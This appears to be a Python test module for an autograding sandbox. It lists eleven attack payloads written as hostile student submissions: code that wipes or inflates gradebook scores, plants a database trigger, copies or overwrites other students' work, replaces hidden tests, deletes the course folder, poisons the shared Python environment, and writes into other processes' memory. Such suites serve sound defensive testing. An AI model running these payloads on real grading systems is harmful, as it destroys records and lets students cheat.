"""E - other people's data: grades, submissions, and what the next student will meet."""
# ruff: noqa: E501 - the long lines are students' code

from .base import attack

UPWARDS = """
import glob, json, os, pathlib, shutil, sqlite3, time

def upwards(pattern):  # "attacked-course" is how the runner calls the course that may be harmed
    places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]
    places += [pathlib.Path(name) for name in glob.glob("/tmp/*/attacked-course*") + glob.glob("/tmp/attacked-course*")]
    return [path for place in places if "attacked-course" in str(place) for path in place.glob(pattern)]
"""

ATTACKS = [
    attack(
        "grades-updated",
        "Sets all grades in the gradebook, his own to the maximum and those of others to 0.",
        "smooth",
        UPWARDS
        + """
for path in upwards("gradebook.db"):
    with sqlite3.connect(path) as db:
        db.execute("update grade set auto_score = 0, manual_score = 0, needs_manual_grade = 0")
        db.execute("update grade_cells set max_points = 0")
        db.commit()
""",
    ),
    attack(
        "gradebook-deleted",
        "Deletes, truncates or renames the gradebook.",
        "search",
        UPWARDS
        + """
for path in upwards("gradebook.db"):
    try:
        path.rename(path.with_name("gradebook.old"))
        path.write_bytes(b"")
    except OSError as error:
        print(error)
""",
    ),
    attack(
        "gradebook-locked",
        "Leaves a daemon behind that holds the gradebook's write lock, so that nobody's grades can be written.",
        "deal",
        UPWARDS
        + """
for path in upwards("gradebook.db"):
    if os.fork() == 0:
        os.setsid()
        db = sqlite3.connect(path, isolation_level=None)
        db.execute("begin exclusive")
        time.sleep(90)
        os._exit(0)
""",
    ),
    attack(
        "trigger-in-the-gradebook",
        "Plants a trigger in the gradebook's database that raises each later score of his.",
        "smooth",
        UPWARDS
        + """
for path in upwards("gradebook.db"):
    with sqlite3.connect(path) as db:
        db.execute("create trigger if not exists bonus after update on grade begin "
                   "update grade set manual_score = 6 where id = new.id; end")
        db.execute("update source_cell set source = 'pass' where name like '%-hidden'")
""",
    ),
    attack(
        "others-answer-copied",
        "Finds another student's submission, runs its answers and presents them as his own.",
        "register",
        UPWARDS
        + """
for path in upwards("submitted/*/*/*.ipynb") + upwards("autograded/*/*/*.ipynb") + upwards("../*/*/*.ipynb"):
    for cell in json.loads(path.read_text())["cells"]:
        source = "".join(cell["source"])
        if "class Register" in source and "largest = None" not in source:
            exec(source)
            print(source)
""",
    ),
    attack(
        "others-submission-spoilt",
        "Overwrites what other students handed in and what was graded of it.",
        "deal",
        UPWARDS
        + """
for path in upwards("submitted/*/*/*.ipynb") + upwards("autograded/*/*/*.ipynb") + upwards("feedback/*/*/*"):
    if "mallory" not in str(path):
        path.chmod(0o666)
        path.write_text("{}")
""",
    ),
    attack(
        "source-replaced",
        "Replaces the hidden tests in source/ and release/ by `pass`, for everybody who is graded later.",
        "search",
        UPWARDS
        + """
for path in upwards("source/*/*.ipynb") + upwards("release/*/*.ipynb") + upwards("source/*.py"):
    text = path.read_text()
    path.chmod(0o666)
    path.write_text(text.replace("check.hidden", "print"))
""",
    ),
    attack(
        "course-removed",
        "Removes the whole course folder, as far as it is allowed to.",
        "smooth",
        UPWARDS
        + """
for path in upwards("gradebook.db"):
    shutil.rmtree(path.parent, ignore_errors=True)
""",
    ),
    attack(
        "settings-planted",
        "Appends lines to nbgrader_config.py and plants start-up files for IPython and Jupyter in the home folder.",
        "register",
        UPWARDS
        + """
for path in upwards("nbgrader_config.py"):
    with path.open("a") as file:
        file.write("\\nc.ClearSolutions.code_stub = {'python': 'pass'}\\nc.Execute.enabled = False\\n")
home = pathlib.Path.home()
for name in (".ipython/profile_default/startup/00-mallory.py", ".jupyter/nbgrader_config.py", ".config/mallory.py"):
    try:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("print('mallory was here')\\n")
    except OSError as error:
        print(error)
""",
    ),
    attack(
        "environment-poisoned",
        "Writes a .pth file and a changed check module into the Python environment that all submissions share.",
        "search",
        """
        import pathlib, site, sys, sysconfig
        for place in {*site.getsitepackages(), sysconfig.get_path("purelib"), *sys.path}:
            try:
                pathlib.Path(place, "mallory.pth").write_text("import sys; sys.mallory = 1\\n")
                print("planted", place)
            except OSError as error:
                print(error)
        try:
            with open(check.__file__, "a") as file:
                file.write("\\nhidden = None\\n")
            print("changed", check.__file__)
        except OSError as error:
            print(error)
        """,
        harmful="writes into the Python environment that everything on the machine shares",
    ),
    attack(
        "prepared-process-poisoned",
        "Looks for memory that is shared with the process it was forked from, and for writable libraries in it.",
        "deal",
        """
        import ctypes, os
        with open("/proc/self/maps") as maps:
            for line in maps:
                place, rights = line.split()[:2]
                start, end = (int(part, 16) for part in place.split("-"))
                if "s" in rights and "w" in rights:
                    ctypes.memset(start, 0x4D, end - start)
                    print("overwrote", line)
        for process in (os.getppid(), os.getppid() - 1):
            try:
                with open(f"/proc/{process}/mem", "r+b", 0) as memory:
                    for line in open(f"/proc/{process}/maps"):
                        if "[stack]" in line:
                            start, end = (int(part, 16) for part in line.split()[0].split("-"))
                            memory.seek(end - 65536)
                            memory.write(b"M" * 60000)
            except OSError as error:
                print(error)
        """,
        harmful="writes into the memory of processes around it",
    ),
]
